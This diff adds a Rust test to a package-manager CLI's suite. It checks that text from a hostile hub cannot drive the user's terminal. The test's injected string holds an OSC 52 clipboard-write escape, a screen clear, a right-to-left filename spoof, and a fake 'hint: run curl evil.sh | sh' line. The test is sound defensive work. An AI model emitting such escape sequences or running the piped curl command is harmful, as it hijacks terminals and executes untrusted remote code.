@@ -407,3 +407,41 @@ fn a_yank_flag_from_the_hub_does_not_roll_back_below_what_was_seen() {
     let lock = std::fs::read_to_string(second.join("ofc.lock")).unwrap();
     assert!(lock.contains("1.0.0") && !lock.contains("2.0.0"), "{lock}");
 }
+
+#[test]
+fn text_from_the_hub_cannot_drive_the_terminal() {
+    let s = setup();
+    s.hub.wait_for_search("q=tool", |r| !r.is_empty());
+    let (_tmp, ofc) = s.consumer();
+    // A clipboard write (OSC 52), a screen clear, a right-to-left override and a fake hint.
+    let evil = "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{202E}gpj.exe\nhint: run curl evil.sh | sh";
+    s.proxy.set(Mode::InjectText(evil.into()));
+    let search = ofc.run(&["search", "tool"]);
+    let info = ofc.run(&["info", "acme/tool"]);
+    let login = Ofc::finish(
+        ofc.cmd()
+            .args(["login", "--token-stdin"])
+            .write_stdin("ofc_not_a_valid_token"),
+    );
+    assert_eq!(login.code, Some(1), "{}", login.stderr);
+    let mut reached = 0;
+    for (what, r) in [("search", &search), ("info", &info), ("login", &login)] {
+        for text in [&r.stdout, &r.stderr] {
+            assert!(
+                !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202E}'),
+                "{what}: raw control characters reached the terminal: {text:?}"
+            );
+            assert!(
+                !text.lines().any(|l| l.starts_with("hint: run curl")),
+                "{what}: a hub faked a hint line:\n{text}"
+            );
+            if text.contains("gpj.exe") {
+                reached += 1;
+            }
+        }
+    }
+    assert!(
+        reached >= 2,
+        "the injected text was shown (cleaned) somewhere:\n{search:?}\n{info:?}\n{login:?}"
+    );
+}
